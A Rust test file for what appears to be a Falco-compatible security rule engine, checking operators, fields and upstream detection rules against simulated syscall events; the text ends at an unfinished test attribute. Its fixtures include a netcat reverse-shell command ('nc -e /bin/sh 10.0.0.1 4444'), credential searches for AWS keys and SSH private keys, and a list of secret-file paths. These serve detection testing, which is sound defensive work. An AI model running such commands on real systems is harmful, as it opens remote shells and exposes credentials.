//! Engine tests: operators, transformers and fields on handcrafted events, and Falco's
//! upstream stable ruleset against events that honestly satisfy its rules.

use std::{borrow::Cow, collections::HashMap, sync::Arc};

use osprey_model::{
    ContainerInfo, Process,
    event::{ArgValue, EventKind, Exit},
};

use super::{
    env::{StaticContainers, StaticUsers},
    *,
};
use crate::{
    output,
    rules::{load_files, load_sources},
    testing::{ROOT, arg, flags, path, upstream_rules},
};

pub(crate) fn upstream_path() -> std::path::PathBuf {
    let p = upstream_rules();
    assert!(
        p.exists(),
        "Falco's upstream stable ruleset is missing: expected it at {} (shared/compat/falco_rules.yaml beside the repository)",
        p.display()
    );
    p
}

/// Every path the rule files name (and paths below, beside and above them), plus some: what
/// the kernel filter's and the prefilter's replays open.
pub(crate) fn path_corpus(sources: &[std::path::PathBuf]) -> Vec<String> {
    let mut out = std::collections::BTreeSet::new();
    for extra in [
        "/",
        "/dev/null",
        "/etc",
        "/etc/shadow",
        "/etc/passwd",
        "/etc/sudoers.d/x",
        "/etc/pam.d/sshd",
        "/etc/ld.so.preload",
        "/etc/cron.d/job",
        "/etc/systemd/system/x.service",
        "/etc/systemd/system/x.timer",
        "/root/.ssh/id_rsa",
        "/root/.bashrc",
        "/home/u/.ssh/id_rsa",
        "/home/u/.ssh/authorized_keys",
        "/home/u/.bash_history",
        "/home/u/.aws/credentials",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/run/secrets/kubernetes.io/serviceaccount/token",
        "/var/lib/kubelet/pki/kubelet-client-current.pem",
        "/proc/1/mem",
        "/proc/12/task/13/mem",
        "/proc/sys/kernel/core_pattern",
        "/sys/fs/cgroup/x/release_agent",
        "/var/log/syslog",
        "/var/log/wtmp",
        "/var/spool/mail/root",
        "/tmp/x",
        "/dev/shm/x",
        "/usr/bin/x",
        "/bin/x",
        "/lib/modules/x.ko",
        "/x.timer",
        "/srv/app/id_rsa",
    ] {
        out.insert(extra.to_string());
    }
    for src in sources {
        let text = std::fs::read_to_string(src).unwrap();
        let mut i = 0;
        let b = text.as_bytes();
        while i < b.len() {
            if b[i] == b'/' && (i == 0 || !b[i - 1].is_ascii_alphanumeric()) {
                let end = text[i..]
                    .find(|c: char| !(c.is_ascii_alphanumeric() || "/._-".contains(c)))
                    .map_or(text.len(), |n| i + n);
                let p = text[i..end].trim_end_matches(['.', '/']);
                if p.len() > 1 && !p.contains("//") {
                    out.insert(p.to_string());
                    out.insert(format!("{p}/x"));
                    out.insert(format!("{p}/.ssh/id_rsa"));
                    out.insert(format!("{p}x"));
                    if let Some((dir, _)) = p.rsplit_once('/')
                        && !dir.is_empty()
                    {
                        out.insert(dir.to_string());
                    }
                }
                i = end.max(i + 1);
            } else {
                i += 1;
            }
        }
    }
    out.into_iter().collect()
}

/// The shell the tests' commands run from.
fn bash() -> Arc<Process> {
    ROOT.process(10, 1, "bash", "/bin/bash", &["bash"])
}

fn rule_src(cond: &str) -> String {
    format!(
        "- rule: t\n  desc: d\n  condition: {}\n  output: o\n  priority: INFO\n",
        serde_json::to_string(cond).unwrap()
    )
}

fn engine_for(cond: &str, opts: EngineOptions) -> Engine {
    let res = load_sources(&[("t.yaml", rule_src(cond))]);
    let errs: Vec<_> = res.errors().map(|e| e.message.clone()).collect();
    assert!(res.is_ok(), "{cond}: {errs:?}");
    Engine::new(res.ruleset, opts)
}

fn eval(cond: &str, en: &Enriched) -> bool {
    !engine_for(cond, EngineOptions::default())
        .evaluate(en)
        .is_empty()
}

pub(crate) fn cat_shadow() -> Enriched {
    let cat = ROOT.process(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
    ROOT.openat(
        cat,
        vec![bash()],
        "/etc/shadow",
        flags(0, &["O_RDONLY", "O_CLOEXEC"]),
        3,
    )
}

#[test]
fn string_operators() {
    let e = cat_shadow();
    for (cond, want) in [
        ("proc.name = cat", true),
        ("proc.name == cat", true),
        ("proc.name != cat", false),
        ("fd.name contains shad", true),
        ("fd.name icontains SHAD", true),
        ("fd.name startswith /etc/", true),
        ("fd.name endswith dow", true),
        ("fd.name glob '/etc/*'", true),
        ("fd.name glob '/etc/?hadow'", true),
        ("fd.name iglob '/ETC/*'", true),
        ("fd.name glob '/var/*'", false),
        ("fd.name regex '/etc/s.*'", true),
        ("fd.name regex 'etc'", false),
        ("fd.name bcontains 736861646f77", true),
        ("fd.name bstartswith 2f657463", true),
        ("fd.name bstartswith 2f766172", false),
        ("fd.name in (/etc/shadow, /etc/sudoers)", true),
        ("fd.name in (/etc/sudoers)", false),
        ("fd.name intersects (/etc/shadow)", true),
        ("fd.name pmatch (/etc)", true),
        ("fd.name pmatch (/et)", false),
        ("fd.name startswith oneof (/var, /etc)", true),
        ("fd.name startswith anyof (/var, /usr)", false),
        ("fd.name contains allof (etc, shadow)", true),
        ("fd.name contains allof (etc, passwd)", false),
        ("proc.name = val(proc.name)", true),
        ("proc.name = val(proc.pname)", false),
        ("proc.pname exists", true),
        ("proc.aname[3] exists", false),
        ("container.id exists", false),
        ("container.id != host", false),
    ] {
        assert_eq!(eval(cond, &e), want, "{cond}");
    }
}

#[test]
fn numeric_bool_and_flag_operators() {
    let e = cat_shadow();
    for (cond, want) in [
        ("fd.num = 3", true),
        ("fd.num >= 0", true),
        ("fd.num > 3", false),
        ("fd.num < 4", true),
        ("fd.num <= 2", false),
        ("fd.num in (1, 2, 3)", true),
        ("proc.pid = 20", true),
        ("proc.ppid = 10", true),
        ("evt.rawres = 3", true),
        ("evt.res = SUCCESS", true),
        ("evt.is_open_read = true", true),
        ("evt.is_open_write = true", false),
        ("evt.arg.flags contains O_CLOEXEC", true),
        ("evt.arg.flags contains O_TRUNC", false),
        ("evt.arg.flags = O_RDONLY|O_CLOEXEC", true),
        ("evt.arg.name = /etc/shadow", true),
        ("evt.arg[1] = /etc/shadow", true),
        ("evt.rawarg.flags = 0", true),
        ("evt.type = openat and evt.dir = '<'", true),
        ("user.uid = 0 and user.loginuid = -1", true),
        ("proc.duration > 0", true),
    ] {
        assert_eq!(eval(cond, &e), want, "{cond}");
    }
}

#[test]
fn open_mode_from_each_open_syscall_and_any_argument_order() {
    let cat = ROOT.process(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
    let wronly = || flags(1, &["O_WRONLY"]);
    let open =
        |name: &'static str, args| ROOT.event(ROOT.syscall(name, 3, args), cat.clone(), vec![]);
    let cases = [
        // Where the decoder puts them.
        open(
            "open",
            vec![
                arg("filename", path("/x")),
                arg("flags", wronly()),
                arg("mode", ArgValue::Mode(0)),
            ],
        ),
        open(
            "openat2",
            vec![
                arg("dfd", ArgValue::Fd(-100)),
                arg("filename", path("/x")),
                arg("how", wronly()),
                arg("usize", ArgValue::Int(24)),
            ],
        ),
        // creat has no flags: O_CREAT|O_WRONLY|O_TRUNC.
        open(
            "creat",
            vec![arg("pathname", path("/x")), arg("mode", ArgValue::Mode(0))],
        ),
        // Another layout (a replayed event): found by name.
        open(
            "openat",
            vec![arg("flags", wronly()), arg("filename", path("/x"))],
        ),
    ];
    for e in &cases {
        assert!(eval("evt.is_open_write = true", e), "{:?}", e.event.kind);
        assert!(!eval("evt.is_open_read = true", e), "{:?}", e.event.kind);
    }
    let connect = ROOT.connect(cat.clone(), vec![], 3, "127.0.0.1".parse().unwrap(), 80);
    assert!(!eval("evt.is_open_write = true", &connect));
}

#[test]
fn transformers_in_conditions() {
    let e = cat_shadow();
    for (cond, want) in [
        ("toupper(proc.name) = CAT", true),
        ("tolower(toupper(proc.name)) = cat", true),
        ("basename(fd.name) = shadow", true),
        ("len(fd.name) = 11", true),
        ("len(proc.name) > 3", false),
        ("b64(proc.name) exists", true),
    ] {
        assert_eq!(eval(cond, &e), want, "{cond}");
    }
}

#[test]
fn ancestors_and_process_fields() {
    let nginx = ROOT.process(
        5,
        1,
        "nginx",
        "/usr/sbin/nginx",
        &["nginx", "-g", "daemon off;"],
    );
    let sh = ROOT.process(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
    let init = ROOT.process(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
    let e = ROOT.execve(sh, vec![nginx, init]);
    for (cond, want) in [
        ("proc.aname = nginx", true),
        ("proc.aname in (systemd)", true),
        ("proc.aname = bash", false),
        ("proc.aname[1] = nginx and proc.aname[2] = systemd", true),
        ("proc.aname[0] = sh", true),
        ("proc.pcmdline = 'nginx -g daemon off;'", true),
        ("proc.cmdline = 'sh -c id'", true),
        ("proc.args = '-c id'", true),
        ("proc.exe = sh", true),
        ("proc.exepath = /bin/sh", true),
        ("proc.pexepath = /usr/sbin/nginx", true),
        ("proc.cwd = /root/", true),
        ("proc.tty = 0", true),
        ("evt.type in (execve, execveat)", true),
    ] {
        assert_eq!(eval(cond, &e), want, "{cond}");
    }
}

#[test]
fn network_fields_from_connect() {
    let ssh = ROOT.process(
        30,
        10,
        "ssh",
        "/usr/bin/ssh",
        &["ssh", "-p", "443", "evil.example"],
    );
    let e = ROOT.connect(ssh, vec![], 3, "203.0.113.7".parse().unwrap(), 443);
    for (cond, want) in [
        ("fd.typechar = 4 and fd.type = ipv4", true),
        ("fd.sip = 203.0.113.7 and fd.rip = 203.0.113.7", true),
        ("fd.sport = 443 and fd.rport = 443", true),
        ("fd.snet = 203.0.113.0/24", true),
        ("fd.net = 127.0.0.0/8", false),
        ("fd.snet in (10.0.0.0/8, 203.0.0.0/8)", true),
        ("fd.num = 3", true),
        ("fd.name = 203.0.113.7:443", true),
        ("fd.lport exists", false),
        ("fd.l4proto exists", false),
    ] {
        assert_eq!(eval(cond, &e), want, "{cond}");
    }
}

#[test]
fn procexit_and_exec_events() {
    let p = ROOT.process(40, 1, "x", "/x", &["x"]);
    let exit = ROOT.event(EventKind::Exit(Exit { status: 0 }), p.clone(), vec![]);
    assert!(eval("evt.type = procexit and proc.name = x", &exit));
    let exec = ROOT.event(
        EventKind::Exec(osprey_model::event::Exec {
            filename: "/x".into(),
            args: vec!["x".into()],
            args_truncated: false,
            ..Default::default()
        }),
        p,
        vec![],
    );
    assert!(
        !eval("proc.name = x", &exec),
        "exec events only feed the process table"
    );
}

/// `proc.env[LD_PRELOAD]` is what the kernel read at exec when it read every entry, whatever
/// the process holds now (a preloaded library can overwrite its own entry); when it could not
/// read them all, the process's environment now, and what the kernel did read once the
/// process is gone. Other variables always come from the process.
#[test]
fn ld_preload_is_the_kernels_when_it_read_the_whole_environment() {
    struct Now(Option<Vec<String>>);
    impl ProcessGroups for Now {
        fn vpgid(&self, _: u32) -> Option<i64> {
            None
        }
        fn environ(&self, _: u32) -> Option<Vec<String>> {
            self.0.clone()
        }
    }
    let judge = |kernel: Option<(bool, Option<&str>)>, now: Option<&[&str]>, cond: &str| {
        let mut p = (*ROOT.process(41, 1, "x", "/x", &["x"])).clone();
        p.exec_env = kernel.map(|(complete, v)| osprey_model::event::ExecEnv {
            complete,
            ld_preload: v.map(str::to_string),
        });
        let ev = ROOT.event(EventKind::Exit(Exit { status: 0 }), Arc::new(p), vec![]);
        let opts = EngineOptions {
            process_groups: Arc::new(Now(now.map(|n| n.iter().map(|s| s.to_string()).collect()))),
            ..EngineOptions::default()
        };
        !engine_for(cond, opts).evaluate(&ev).is_empty()
    };
    let is_k = "evt.type = procexit and proc.env[LD_PRELOAD] = /k.so";
    let set = "evt.type = procexit and proc.env[LD_PRELOAD] exists";
    let erased: &[&str] = &["LD_PRELOAD=XXXXXXXXXXXXXXXX", "HOME=/root"];
    assert!(judge(Some((true, Some("/k.so"))), Some(erased), is_k));
    assert!(judge(Some((true, Some("/k.so"))), None, is_k));
    // Read in full and not there: not there, whatever /proc says now.
    assert!(!judge(Some((true, None)), Some(&["LD_PRELOAD=/k.so"]), set));
    // Not read in full: the process's own, then the kernel's once it is gone.
    assert!(!judge(Some((false, Some("/k.so"))), Some(erased), is_k));
    assert!(judge(Some((false, Some("/k.so"))), None, is_k));
    assert!(judge(None, Some(&["LD_PRELOAD=/k.so"]), is_k));
    assert!(!judge(None, None, set));
    assert!(judge(
        Some((true, Some("/k.so"))),
        Some(&["HOME=/root"]),
        "evt.type = procexit and proc.env[HOME] = /root"
    ));
}

#[test]
fn users_and_containers_come_from_the_hooks() {
    let e = cat_shadow();
    let opts = EngineOptions {
        users: Arc::new(StaticUsers::new(&[(0, "root")], &[(0, "root")])),
        containers: Arc::new(StaticContainers {
            by_cgroup: HashMap::from([(
                1,
                Arc::new(ContainerInfo {
                    id: "abcdef012345".into(),
                    image_repository: Some("docker.io/library/alpine".into()),
                    privileged: Some(true),
                    k8s_ns_name: Some("default".into()),
                    ..Default::default()
                }),
            )]),
            default: None,
        }),
        hostname: Arc::from("node-1"),
        ..EngineOptions::default()
    };
    for cond in [
        "user.name = root and group.name = root",
        "container.id = abcdef012345 and container.privileged = true",
        "k8s.ns.name = default and container.image.repository endswith alpine",
        "evt.hostname = node-1",
    ] {
        assert!(
            !engine_for(cond, opts.clone()).evaluate(&e).is_empty(),
            "{cond}"
        );
    }
}

#[test]
fn first_match_wins_unless_all() {
    let src = "- rule: a\n  desc: d\n  condition: evt.type=openat\n  output: a\n  priority: INFO\n- rule: b\n  desc: d\n  condition: evt.type=openat\n  output: b\n  priority: INFO\n";
    let res = load_sources(&[("t.yaml", src)]);
    let e = cat_shadow();
    assert_eq!(
        Engine::new(res.ruleset, EngineOptions::default())
            .evaluate(&e)
            .len(),
        1
    );
    let res = load_sources(&[("t.yaml", src)]);
    let all = EngineOptions {
        rule_matching: RuleMatching::All,
        ..EngineOptions::default()
    };
    assert_eq!(Engine::new(res.ruleset, all).evaluate(&e).len(), 2);
    let res = load_sources(&[("t.yaml", src)]);
    let strict = EngineOptions {
        min_priority: Priority::Warning,
        ..EngineOptions::default()
    };
    assert!(
        Engine::new(res.ruleset, strict).evaluate(&e).is_empty(),
        "INFO rules are below WARNING"
    );
}

/// How many of Falco's 25 stable rules load and compile. May only go up.
const UPSTREAM_COMPILED: usize = 25;

#[test]
fn upstream_stable_ruleset_loads() {
    let res = load_files(&[upstream_path()]);
    let errs: Vec<_> = res
        .errors()
        .map(|e| format!("{} {}", e.at(), e.message))
        .collect();
    assert!(res.is_ok(), "{errs:#?}");
    assert_eq!(
        res.warnings().count(),
        0,
        "{:#?}",
        res.warnings().collect::<Vec<_>>()
    );
    assert_eq!(res.ruleset.rules.len(), 25);
    let compiled = res
        .ruleset
        .rules
        .iter()
        .filter(|r| r.compiled.is_some())
        .count();
    assert!(
        compiled >= UPSTREAM_COMPILED,
        "only {compiled} of 25 upstream rules compile"
    );
    let engine = Engine::new(res.ruleset, EngineOptions::default());
    let SyscallInterest::Only(interest) = engine.syscall_interest() else {
        panic!("every upstream rule has event types")
    };
    for s in [
        "open",
        "openat",
        "openat2",
        "execve",
        "execveat",
        "connect",
        "ptrace",
        "symlinkat",
        "linkat",
        "socket",
        "dup2",
        "finit_module",
    ] {
        assert!(interest.contains(s), "{s} missing from {interest:?}");
    }
    assert!(!interest.contains("read"));
}

fn upstream_engine() -> Engine {
    engine_on_scene(load_files(&[upstream_path()]).ruleset)
}

/// `ruleset` on node-1: root and www-data known, the host by default and a privileged alpine
/// container in cgroup 7, every matching rule reported.
pub(crate) fn engine_on_scene(ruleset: crate::rules::Ruleset) -> Engine {
    let host = Arc::new(ContainerInfo {
        id: "host".into(),
        ..Default::default()
    });
    let ctr = Arc::new(ContainerInfo {
        id: "0123456789ab".into(),
        image_repository: Some("docker.io/library/alpine".into()),
        privileged: Some(true),
        ..Default::default()
    });
    let opts = EngineOptions {
        hostname: Arc::from("node-1"),
        users: Arc::new(StaticUsers::new(
            &[(0, "root"), (33, "www-data")],
            &[(0, "root")],
        )),
        containers: Arc::new(StaticContainers {
            by_cgroup: HashMap::from([(7, ctr)]),
            default: Some(host),
        }),
        rule_matching: RuleMatching::All,
        ..EngineOptions::default()
    };
    Engine::new(ruleset, opts)
}

fn rules_hit(engine: &Engine, e: &Enriched) -> Vec<String> {
    engine
        .evaluate(e)
        .into_iter()
        .map(|a| a.rule.to_string())
        .collect()
}

fn in_container(p: &Process) -> Arc<Process> {
    Arc::new(Process {
        cgroup_id: 7,
        ..p.clone()
    })
}

#[test]
fn upstream_rules_fire_on_matching_events() {
    let engine = upstream_engine();
    let bash = bash();
    let runc = ROOT.process(9, 1, "runc", "/usr/bin/runc", &["runc"]);
    let nginx = ROOT.process(5, 1, "nginx", "/usr/sbin/nginx", &["nginx"]);

    // Read sensitive file untrusted: cat /etc/shadow from a shell.
    let alerts = engine.evaluate(&cat_shadow());
    assert_eq!(
        alerts.iter().map(|a| &*a.rule).collect::<Vec<_>>(),
        ["Read sensitive file untrusted"]
    );
    let a = &alerts[0];
    assert_eq!(a.priority, Priority::Warning);
    assert!(
        a.output.starts_with(
            "Sensitive file opened for reading by non-trusted program | file=/etc/shadow "
        ),
        "{}",
        a.output
    );
    assert!(
        a.output.contains("process=cat")
            && a.output.contains("parent=bash")
            && a.output.contains("user=root"),
        "{}",
        a.output
    );
    assert!(a.output.contains("gparent=<NA>"), "{}", a.output);
    assert_eq!(a.output_fields["fd.name"], "/etc/shadow");
    assert_eq!(a.output_fields["user.loginuid"], -1);
    assert!(a.output_fields["proc.aname[2]"].is_null());
    let json: serde_json::Value = serde_json::from_str(&output::format_json(a)).unwrap();
    assert_eq!(json["rule"], "Read sensitive file untrusted");
    assert_eq!(json["priority"], "Warning");
    assert_eq!(json["source"], "syscall");
    assert_eq!(json["hostname"], "node-1");
    assert_eq!(json["time"], "2023-05-25T13:44:05.478445995Z");
    assert_eq!(
        json["output_fields"]["evt.time"],
        1_685_022_245_478_445_995_u64
    );
    assert!(
        json["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "T1555")
    );
    assert!(
        output::format_text(a).starts_with("13:44:05.478445995: Warning Sensitive file opened")
    );

    // A trusted reader is not reported; a failed open is not a read.
    let passwd = ROOT.process(21, 10, "passwd", "/usr/bin/passwd", &["passwd"]);
    assert!(
        engine
            .evaluate(&ROOT.openat(
                passwd,
                vec![bash.clone()],
                "/etc/shadow",
                flags(0, &["O_RDONLY"]),
                3
            ))
            .is_empty()
    );
    let cat = ROOT.process(22, 10, "cat", "/usr/bin/cat", &["cat"]);
    assert!(
        engine
            .evaluate(&ROOT.openat(
                cat.clone(),
                vec![bash.clone()],
                "/etc/shadow",
                flags(0, &["O_RDONLY"]),
                -13
            ))
            .is_empty()
    );

    // Run shell untrusted: nginx spawns sh.
    let sh = ROOT.process(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(sh.clone(), vec![nginx.clone()])),
        ["Run shell untrusted"]
    );
    // ... but not when bash spawns it.
    assert!(rules_hit(&engine, &ROOT.execve(sh, vec![bash.clone()])).is_empty());

    // Clear Log Activities.
    let e = ROOT.openat(
        cat.clone(),
        vec![bash.clone()],
        "/var/log/syslog",
        flags(0o1001, &["O_WRONLY", "O_TRUNC"]),
        4,
    );
    assert_eq!(rules_hit(&engine, &e), ["Clear Log Activities"]);

    // Directory traversal monitored file read.
    let php = ROOT.process(23, 5, "php-fpm", "/usr/sbin/php-fpm", &["php-fpm"]);
    let e = ROOT.event(
        ROOT.syscall(
            "openat",
            3,
            vec![
                arg("dfd", ArgValue::Fd(-100)),
                arg(
                    "filename",
                    ArgValue::Path {
                        raw: "/var/www/../../etc/passwd".into(),
                        resolved: Some("/etc/passwd".into()),
                    },
                ),
                arg("flags", flags(0, &["O_RDONLY"])),
                arg("mode", ArgValue::Mode(0)),
            ],
        ),
        php,
        vec![nginx.clone()],
    );
    assert_eq!(
        rules_hit(&engine, &e),
        ["Directory traversal monitored file read"]
    );

    // Search Private Keys or Passwords / Find AWS Credentials / Remove Bulk Data from Disk.
    let find = ROOT.process(
        24,
        10,
        "find",
        "/usr/bin/find",
        &["find", "/", "-name", "id_rsa"],
    );
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(find, vec![bash.clone()])),
        ["Search Private Keys or Passwords"]
    );
    let grep = ROOT.process(
        25,
        10,
        "grep",
        "/usr/bin/grep",
        &["grep", "-r", "aws_secret_access_key", "/"],
    );
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(grep, vec![bash.clone()])),
        ["Find AWS Credentials"]
    );
    let shred = ROOT.process(26, 10, "shred", "/usr/bin/shred", &["shred", "-u", "x"]);
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(shred, vec![bash.clone()])),
        ["Remove Bulk Data from Disk"]
    );

    // Execution from /dev/shm and fileless execution.
    let shm = ROOT.process(27, 10, "x", "/dev/shm/x", &["/dev/shm/x"]);
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(shm, vec![bash.clone()])),
        ["Execution from /dev/shm"]
    );
    let memfd = ROOT.process(28, 10, "3", "/memfd:payload (deleted)", &["payload"]);
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(memfd, vec![bash.clone()])),
        ["Fileless execution via memfd_create"]
    );

    // Symlink and hardlink over sensitive files.
    let ln = ROOT.process(
        29,
        10,
        "ln",
        "/usr/bin/ln",
        &["ln", "-s", "/etc/shadow", "x"],
    );
    let e = ROOT.event(
        ROOT.syscall(
            "symlinkat",
            0,
            vec![
                arg("oldname", ArgValue::Str("/etc/shadow".into())),
                arg("newdfd", ArgValue::Fd(-100)),
                arg("newname", path("/tmp/x")),
            ],
        ),
        ln.clone(),
        vec![bash.clone()],
    );
    let alerts = engine.evaluate(&e);
    assert_eq!(alerts.len(), 1);
    assert_eq!(&*alerts[0].rule, "Create Symlink Over Sensitive Files");
    assert!(
        alerts[0]
            .output
            .contains("target=/etc/shadow linkpath=/tmp/x"),
        "{}",
        alerts[0].output
    );
    let e = ROOT.event(
        ROOT.syscall(
            "linkat",
            0,
            vec![
                arg("olddfd", ArgValue::Fd(-100)),
                arg("oldname", path("/etc/shadow")),
                arg("newdfd", ArgValue::Fd(-100)),
                arg("newname", path("/tmp/y")),
                arg("flags", flags(0, &[])),
            ],
        ),
        ln,
        vec![bash.clone()],
    );
    assert_eq!(
        rules_hit(&engine, &e),
        ["Create Hardlink Over Sensitive Files"]
    );

    // PTRACE attach and anti-debug.
    let gdb = ROOT.process(31, 10, "gdb", "/usr/bin/gdb", &["gdb", "-p", "1"]);
    let ptrace = |req: &'static str, raw: i64| {
        ROOT.event(
            ROOT.syscall(
                "ptrace",
                0,
                vec![
                    arg(
                        "request",
                        ArgValue::Enum {
                            raw,
                            name: Some(Cow::Borrowed(req)),
                        },
                    ),
                    arg("pid", ArgValue::Int(1)),
                    arg("addr", ArgValue::Ptr(0)),
                    arg("data", ArgValue::Ptr(0)),
                ],
            ),
            gdb.clone(),
            vec![bash.clone()],
        )
    };
    assert_eq!(
        rules_hit(&engine, &ptrace("PTRACE_ATTACH", 16)),
        ["PTRACE attached to process"]
    );
    assert_eq!(
        rules_hit(&engine, &ptrace("PTRACE_TRACEME", 0)),
        ["PTRACE anti-debug attempt"]
    );

    // System user interactive: www-data runs a command under sshd.
    let sshd = ROOT.process(3, 1, "sshd", "/usr/sbin/sshd", &["sshd"]);
    let mut id = (*ROOT.process(32, 3, "id", "/usr/bin/id", &["id"])).clone();
    id.euid = 33;
    let e = ROOT.execve(Arc::new(id), vec![sshd]);
    assert_eq!(
        rules_hit(&engine, &{
            let mut e = e;
            e.event.euid = 33;
            e
        }),
        ["System user interactive"]
    );

    // Container rules.
    let mut csh = (*ROOT.process(40, 9, "sh", "/bin/sh", &["sh"])).clone();
    csh.tty = 34816;
    let e = ROOT.execve(in_container(&csh), vec![runc.clone()]);
    assert_eq!(
        rules_hit(&engine, &{
            let mut e = e;
            e.event.cgroup_id = 7;
            e
        }),
        ["Terminal shell in container"]
    );
    let nc = ROOT.process(
        41,
        9,
        "nc",
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    );
    assert_eq!(
        rules_hit(&engine, &ROOT.execve(in_container(&nc), vec![runc.clone()])),
        ["Netcat Remote Code Execution in Container"]
    );
    let debugfs = ROOT.process(42, 9, "debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
    assert_eq!(
        rules_hit(
            &engine,
            &ROOT.execve(in_container(&debugfs), vec![runc.clone()])
        ),
        ["Debugfs Launched in Privileged Container"]
    );
    let tcpdump = ROOT.process(43, 9, "tcpdump", "/usr/bin/tcpdump", &["tcpdump"]);
    let e = ROOT.event(
        ROOT.syscall(
            "socket",
            3,
            vec![
                arg(
                    "family",
                    ArgValue::Enum {
                        raw: 17,
                        name: Some(Cow::Borrowed("AF_PACKET")),
                    },
                ),
                arg("type", flags(3, &["SOCK_RAW"])),
                arg("protocol", ArgValue::Int(768)),
            ],
        ),
        in_container(&tcpdump),
        vec![runc],
    );
    assert_eq!(
        rules_hit(&engine, &e),
        ["Packet socket created in container"]
    );
    // The same shell on the host is not "in a container".
    let e = ROOT.execve(Arc::new(csh), vec![bash]);
    assert!(rules_hit(&engine, &e).is_empty());
}

#[test]
fn replay_reads_json_lines() {
    let engine = upstream_engine();
    let line = serde_json::to_string(&cat_shadow()).unwrap();
    let alerts = engine
        .replay(format!("{line}\n\n{line}\n").as_bytes())
        .unwrap();
    assert_eq!(alerts.len(), 2);
    let err = engine.replay("{not json}\n".as_bytes()).unwrap_err();
    assert!(err.to_string().starts_with("line 1:"), "{err}");
}

#[test]
fn thread_capabilities_are_names() {
    let p = ROOT.process(50, 1, "x", "/x", &["x"]);
    let mut en = ROOT.openat(p, vec![bash()], "/etc/hosts", flags(0, &["O_RDONLY"]), 3);
    en.event.cap_effective = (1 << 21) | 1;
    assert!(eval("thread.cap_effective contains CAP_SYS_ADMIN", &en));
    assert!(eval("thread.cap_effective icontains sys_admin", &en));
    assert!(!eval("thread.cap_permitted contains CAP_SYS_ADMIN", &en));
    assert!(eval(
        "thread.cap_effective = 'CAP_CHOWN CAP_SYS_ADMIN'",
        &en
    ));
}

#[test]
fn type_specialized_conditions_agree_with_the_rule() {
    let conds = [
        "evt.type = openat",
        "evt.type != openat and proc.name = cat",
        "evt.type in (open, openat) and fd.name startswith /etc",
        "not evt.type in (execve) and (evt.type = connect or proc.name = cat)",
        "evt.type startswith open or evt.type contains ve",
        "toupper(evt.type) = OPENAT",
        "evt.type exists and not evt.type pmatch (/x)",
        "evt.type glob 'open*' and evt.type icontains AT",
        "evt.type contains anyof (xx, at) and not (evt.type in (connect) or evt.type = execve)",
        "evt.type = val(proc.name) or evt.type = openat",
        "(evt.type = execve and proc.name = cat) or (evt.type = openat and proc.name = cat)",
        "evt.arg.newpath = /etc/shadow or fd.name = /etc/shadow",
        "not evt.arg.newpath exists and proc.name = cat",
        "tolower(evt.arg.newpath) = /etc/shadow or len(evt.rawarg.newpath) = 0",
        "evt.arg.name = /etc/shadow and evt.arg.flags contains O_RDONLY",
        "evt.arg[1] = /etc/shadow or evt.arg.filename = /etc/shadow",
    ];
    let cat = ROOT.process(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
    let bash = bash();
    let events = [
        cat_shadow(),
        ROOT.execve(cat.clone(), vec![bash.clone()]),
        ROOT.event(ROOT.syscall("connect", 0, vec![]), cat, vec![bash]),
    ];
    let svc = fields::Services {
        users: &env::NoUsers,
        containers: &env::NoContainers,
        process_groups: &env::NoProcessGroups,
        dns: &env::NoDnsNames,
        hostname: "",
    };
    for cond in conds {
        let res = load_sources(&[("t.yaml", rule_src(cond))]);
        assert!(res.is_ok(), "{cond}");
        let matcher = &res.ruleset.rules[0].compiled.as_ref().unwrap().matcher;
        for en in &events {
            let cache = fields::EventCache::default();
            let ctx = fields::Ctx::new(en, 1, &svc, &cache);
            let ty = ctx.evt_type();
            let spec = matcher.specialize(ty);
            let got = spec.as_ref().unwrap_or(matcher).eval(&ctx);
            assert_eq!(got, matcher.eval(&ctx), "{cond} on {ty}: {spec:?}");
        }
    }
    // The index's guarantee folds away: only the check on proc.name is left.
    let res = load_sources(&[("t.yaml", rule_src(conds[1]))]);
    let m = &res.ruleset.rules[0].compiled.as_ref().unwrap().matcher;
    assert!(matches!(
        m.specialize("openat"),
        Some(compile::Node::Const(false))
    ));
    assert!(matches!(
        m.specialize("execve"),
        Some(compile::Node::Check(_))
    ));
    // An open has no newpath: only the check on fd.name is left. A rename keeps both.
    let res = load_sources(&[("t.yaml", rule_src(conds[11]))]);
    let m = &res.ruleset.rules[0].compiled.as_ref().unwrap().matcher;
    assert!(matches!(
        m.specialize("openat"),
        Some(compile::Node::Check(_))
    ));
    assert!(m.specialize("renameat2").is_none());
    // Arguments an open has, by name, alias or position, stay.
    for cond in &conds[14..] {
        let res = load_sources(&[("t.yaml", rule_src(cond))]);
        let m = &res.ruleset.rules[0].compiled.as_ref().unwrap().matcher;
        assert!(m.specialize("openat").is_none(), "{cond}");
    }
}

#[test]
fn shared_checks_are_judged_once_per_event() {
    let src = "- macro: is_cat\n  condition: proc.name = cat\n".to_string()
        + &rule_src("is_cat and fd.name = /x").replace("rule: t", "rule: a")
        + &rule_src("is_cat and fd.name = /etc/shadow").replace("rule: t", "rule: b")
        + &rule_src("not is_cat").replace("rule: t", "rule: c");
    let res = load_sources(&[("t.yaml", src)]);
    assert!(res.is_ok());
    let engine = Engine::new(
        res.ruleset,
        EngineOptions {
            rule_matching: RuleMatching::All,
            ..EngineOptions::default()
        },
    );
    assert_eq!(engine.memo_slots, 1, "proc.name = cat is shared");
    let bash_open = ROOT.openat(
        bash(),
        vec![bash()],
        "/etc/shadow",
        flags(0, &["O_RDONLY"]),
        3,
    );
    // Results do not leak from one event to the next.
    for _ in 0..2 {
        assert_eq!(rules_hit(&engine, &cat_shadow()), ["b"]);
        assert_eq!(rules_hit(&engine, &bash_open), ["c"]);
    }
}

#[test]
